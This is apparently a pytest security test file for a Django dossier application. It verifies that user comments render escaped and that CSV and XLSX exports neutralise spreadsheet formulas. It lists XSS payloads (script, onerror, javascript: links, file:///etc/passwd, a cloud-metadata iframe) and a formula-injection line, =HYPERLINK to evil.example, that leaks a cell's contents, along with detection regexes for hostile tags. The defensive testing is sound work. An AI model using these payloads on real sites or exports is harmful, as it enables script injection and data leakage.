"""Security of what the werkgroep types: nothing a user types in a comment, a status note or an advice can become
markup, script or a link of another scheme on the werkgroep's pages (the reader sees exactly what was typed), and
the csv and xlsx exports hold the text as typed without ever a spreadsheet formula. The payloads and formulas here
are used by the project-wide suites too (tests/test_payloads.py, tests/test_form_fuzz.py)."""

import csv
import io
import re
from html.parser import HTMLParser

import openpyxl
import pytest

from dossier.models import Role
from dossier.tests.factories import MembershipFactory, RiskFactory, UserFactory

from .. import anchors, markup, services
from ..models import Thread
from .helpers import HTMX, anchor_url, url

pytestmark = pytest.mark.django_db

TEXT_COLUMN = 16  # "Text" in the export: the comment as typed


# ---------------------------------------------------------------------------------------------- sanitising

# (what a werkgroep member types, how (a part of) it must appear in the comment's HTML: escaped, as text)
PAYLOADS = [
    ("<script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    ("<img src=x onerror=alert(1)>", "&lt;img src=x onerror=alert(1)&gt;"),
    ("[klik](javascript:alert(1))", "[klik](javascript:alert(1))"),
    ('<a href="javascript:alert(1)">x</a>', '&lt;a href="javascript:alert(1)"&gt;x&lt;/a&gt;'),
    ('<div hx-get="/x" hx-trigger="load">x</div>', '&lt;div hx-get="/x" hx-trigger="load"&gt;x&lt;/div&gt;'),
    ('<button hx-on:click="alert(1)">x</button>', '&lt;button hx-on:click="alert(1)"&gt;x&lt;/button&gt;'),
    ('<img src="file:///etc/passwd">', '&lt;img src="file:///etc/passwd"&gt;'),
    ("<svg onload=alert(1)>", "&lt;svg onload=alert(1)&gt;"),
    ('<iframe src="http://169.254.169.254/">', '&lt;iframe src="'),
    ("<style>@import url(http://evil/x.css)</style>", "&lt;style&gt;"),
]
PAYLOAD_IDS = [
    "script",
    "img-onerror",
    "md-javascript",
    "a-javascript",
    "hx-get",
    "hx-on",
    "img-file",
    "svg",
    "iframe",
    "style",
]
FORBIDDEN = ["<script", "<img", "<iframe", "<svg", "<style", "<div", "<button"]
# An attribute inside a tag (the same words as text, escaped, are harmless: `&lt;a href="javascript:…"&gt;`).
FORBIDDEN_ATTRIBUTE_RE = re.compile(r"<[a-z][^<>]*\s(?:on\w+|hx-[\w:-]+|href=\"javascript:)", re.I)
ALLOWED_TAGS = {"p", "br", "em", "strong", "code", "ul", "ol", "li", "a", "span"}
COMMENT_TEXT_RE = re.compile(r'<div class="comment-text">(.*?)</div>', re.S)


class Inspector(HTMLParser):
    """The tags, attributes and visible text of an HTML fragment."""

    def __init__(self, fragment):
        super().__init__(convert_charrefs=True)
        self.tags, self.attributes, self.text = [], [], []
        self.feed(fragment)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attributes.extend(attrs)

    def handle_data(self, data):
        self.text.append(data)


def comment_regions(page: str) -> list[str]:
    regions = COMMENT_TEXT_RE.findall(page)
    assert regions, "no comment text on the page"
    return regions


def assert_harmless(region: str, visible: str):
    lowered = region.lower()
    for forbidden in FORBIDDEN:
        assert forbidden not in lowered, (forbidden, region)
    assert not FORBIDDEN_ATTRIBUTE_RE.search(region), region
    found = Inspector(region)
    assert set(found.tags) <= ALLOWED_TAGS, region
    for name, value in found.attributes:
        assert not name.startswith(("on", "hx-", "data-", "style", "src")), region
        if name == "href":
            assert value.lower().startswith(("http://", "https://", "mailto:")), region
    assert visible in region


def place(client, dossier, risk, text):
    """Place `text` as a new thread through the view. Hostile text that contains an @word (`@import`, `@SUM`)
    is a mention; a member of that name is added so the text can be placed (else it is refused, see below)."""
    for name in markup.find_mentions(text):
        MembershipFactory(dossier=dossier, user=UserFactory(username=name), role=Role.COLLEGE)
    response = client.post(anchor_url(dossier, risk), {"text": text})
    assert response.status_code == 302, response.content.decode()[:2000]
    return Thread.objects.latest("id")


@pytest.mark.parametrize(("payload", "visible"), PAYLOADS, ids=PAYLOAD_IDS)
def test_a_typed_payload_is_shown_as_text_on_the_thread_page_and_the_panel(client_as, dossier, risk, payload, visible):
    client = client_as("werkgroep")
    thread = place(client, dossier, risk, payload)
    assert thread.comments.get().text == payload  # stored as typed

    pages = {
        "thread page": client.get(url("thread", dossier, pk=thread.pk)),
        "anchor page": client.get(anchor_url(dossier, risk)),
        "anchor panel": client.get(anchor_url(dossier, risk), **HTMX),
        "thread fragment": client.get(url("thread", dossier, pk=thread.pk), **HTMX),
    }
    for where, response in pages.items():
        assert response.status_code == 200, where
        page = response.content.decode()
        for region in comment_regions(page):
            assert_harmless(region, visible)
        if "<" in payload:  # not even in the edit form's textarea
            assert payload not in page, where


def test_hostile_text_with_an_unknown_at_word_is_refused_and_kept_escaped(client_as, dossier, risk):
    payload = PAYLOADS[-1][0]  # <style>@import url(…)</style>: @import is read as a mention of a non-member
    response = client_as("werkgroep").post(anchor_url(dossier, risk), {"text": payload})

    assert response.status_code == 400
    page = response.content.decode()
    assert "@import" in page and f"id_reacties-risico-{risk.pk}_text_error" in page
    assert "&lt;style&gt;@import url(http://evil/x.css)&lt;/style&gt;" in page  # kept in the textarea
    assert "<style" not in page.lower()
    assert not Thread.objects.exists()


@pytest.mark.parametrize(
    "payload",
    [p for p, _ in PAYLOADS],
    ids=PAYLOAD_IDS,
)
def test_the_reader_sees_exactly_what_was_typed(client_as, dossier, risk, payload):
    """markup.render autolinks bare URLs after escaping, so `&quot;` and `&gt;` are swallowed into the URL:
    `<iframe src="http://169.254.169.254/">` becomes a link to `http://169.254.169.254/">` followed by a stray `;`."""
    client = client_as("werkgroep")
    thread = place(client, dossier, risk, payload)
    page = client.get(url("thread", dossier, pk=thread.pk)).content.decode()
    (region,) = comment_regions(page)
    assert "".join(Inspector(region).text) == payload


@pytest.mark.parametrize("typed", ['Zie "https://example.org/rapport".', "Zie <https://example.org/rapport>."])
def test_a_quoted_url_links_to_the_url_itself(typed):
    rendered = markup.render(typed)
    assert 'href="https://example.org/rapport"' in rendered
    assert "".join(Inspector(rendered).text) == typed


def test_the_status_note_and_the_advice_are_sanitised_too(client_as, dossier, m, risk):
    payload, visible = PAYLOADS[0]
    thread = services.thread_open(
        membership=m["werkgroep"], anchor=anchors.resolve(dossier, "risico", risk.pk), text="x"
    )
    services.thread_set_status(membership=m["kwartiermaker"], thread=thread, status="verwerkt", note=payload)
    advice_round = services.advice_round_request(membership=m["kwartiermaker"], note=PAYLOADS[1][0])
    services.advice_give(membership=m["werkgroep"], advice_round=advice_round, verdict="positief", text=payload)

    page = client_as("college").get(url("thread", dossier, pk=thread.pk)).content.decode()
    (article,) = re.findall(r'<article id="draad-.*?</article>', page, re.S)
    assert "<script" not in article and visible in article

    page = client_as("college").get(url("advice", dossier)).content.decode()
    (matrix,) = re.findall(r'<table class="matrix">.*?</table>', page, re.S)
    assert "<script" not in matrix and visible in matrix
    (request_card,) = re.findall(r'<div class="card">.*?</div>', page, re.S)
    assert "<img" not in request_card and PAYLOADS[1][1] in request_card


# ---------------------------------------------------------------------------------------------- exports

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"klik hier")',
    "=1+1",
    "@SUM(A1)",
    "+1+1",
    "-1+1",
]


def csv_rows(response):
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))


def xlsx_sheet(response):
    assert response.status_code == 200
    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
    return workbook.worksheets[0]


def exported(client, dossier):
    base = url("threads", dossier)
    return csv_rows(client.get(base, {"formaat": "csv"})), xlsx_sheet(client.get(base, {"formaat": "xlsx"}))


@pytest.mark.parametrize(
    "payload", [p for p, _ in PAYLOADS] + ["**vet** en *schuin*\n\n- punt één\n- punt twee"], ids=[*PAYLOAD_IDS, "md"]
)
def test_the_export_has_the_text_as_typed(client_as, dossier, risk, payload):
    client = client_as("werkgroep")
    place(client, dossier, risk, payload)

    rows, sheet = exported(client, dossier)

    assert len(rows) == 2 and rows[1][TEXT_COLUMN] == payload
    cell = sheet.cell(row=2, column=TEXT_COLUMN + 1)
    assert cell.value == payload and cell.data_type == "s"


@pytest.mark.parametrize("payload", FORMULAS)
def test_the_export_never_contains_a_formula(client_as, dossier, risk, payload):
    client = client_as("werkgroep")
    place(client, dossier, risk, payload)

    rows, sheet = exported(client, dossier)

    assert rows[1][TEXT_COLUMN] == "'" + payload
    cell = sheet.cell(row=2, column=TEXT_COLUMN + 1)
    assert cell.value == "'" + payload
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)


def test_an_element_name_that_looks_like_a_formula_is_quoted_in_the_export(client_as, dossier):
    risk = RiskFactory(dossier=dossier, description="=1+1 (risico)")
    client = client_as("kwartiermaker")
    place(client, dossier, risk, "Gewoon een opmerking")

    rows, sheet = exported(client, dossier)

    assert "'=1+1 (risico)" in rows[1]
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
